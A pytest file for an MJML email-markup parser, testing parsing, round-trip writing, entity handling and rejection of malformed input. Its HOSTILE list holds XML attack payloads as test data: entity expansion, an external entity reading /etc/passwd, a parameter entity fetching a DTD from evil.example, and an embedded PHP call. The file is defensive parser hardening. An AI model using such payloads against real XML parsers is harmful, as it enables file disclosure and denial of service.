from __future__ import annotations

import pytest

from campaignkit.rendering.mail.tree import DEPTH, ELEMENTS, SIZE, NotMjml, read, written


def test_a_document_is_read_with_the_line_of_each_element() -> None:
    root = read('<mjml lang="en">\n<mj-body>\n<mj-text>a <b>c</b> d</mj-text></mj-body></mjml>')
    assert [(element.tag, element.line) for element in root.walk()][2:] == [("mj-text", 3), ("b", 3)]
    assert root.elements[0].elements[0].children[0] == "a " and root.attributes == {"lang": "en"}


def test_what_is_written_reads_the_same() -> None:
    source = '<mjml a="&quot;&lt;&amp;"><p>x &lt; y &amp; z<br/></p><td></td><mj-style>a > b {}</mj-style></mjml>'
    text = written(read(source))
    assert "<br />" in text and "<td></td>" in text and "a > b" in text and "x &lt; y &amp; z" in text
    assert written(read(text)) == text


def test_named_characters_of_html_become_what_they_mean_and_those_of_xml_stay() -> None:
    assert read("<p>a&nbsp;b&mdash;c &amp; &lt;b&gt;</p>").children == ["a\xa0b—c & <b>"]


def test_remarks_are_left_out() -> None:
    assert read("<p>a<!-- not this -->b</p>").children == ["a", "b"] or read("<p>a<!-- x -->b</p>").children == ["ab"]


HOSTILE = [
    '<!DOCTYPE mjml [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><mjml>&b;</mjml>',
    '<!DOCTYPE mjml SYSTEM "file:///etc/passwd"><mjml/>',
    '<!DOCTYPE mjml [<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;]><mjml/>',
    '<?xml version="1.0"?><?php system("x") ?><mjml/>',
    "<mjml>&unknown;</mjml>",
    "<mjml>&#0;</mjml>",
    "<mjml>\x00</mjml>",
    "<mjml><p></mjml>",
    "<mjml/><mjml/>",
    "<mjml a='1' a='2'/>",
    "<mjml>a & b</mjml>",
    "<mjml><!--[if mso]><script>x</script><![endif]--></mjml>",
    "",
    "plain",
    "<a>" * (DEPTH + 1) + "</a>" * (DEPTH + 1),
    "<a>" + "<b/>" * ELEMENTS + "</a>",
    "<a>" + " " * SIZE + "</a>",
]


@pytest.mark.parametrize("source", HOSTILE, ids=range(len(HOSTILE)))
def test_what_is_hostile_or_broken_is_refused(source: str) -> None:
    with pytest.raises(NotMjml) as refused:
        read(source)
    assert refused.value.line >= 1 and str(refused.value)


def test_the_line_of_a_slip_is_told() -> None:
    with pytest.raises(NotMjml, match="not well-formed") as refused:
        read("<mjml>\n<mj-body>\n</mj-text></mjml>")
    assert refused.value.line == 3
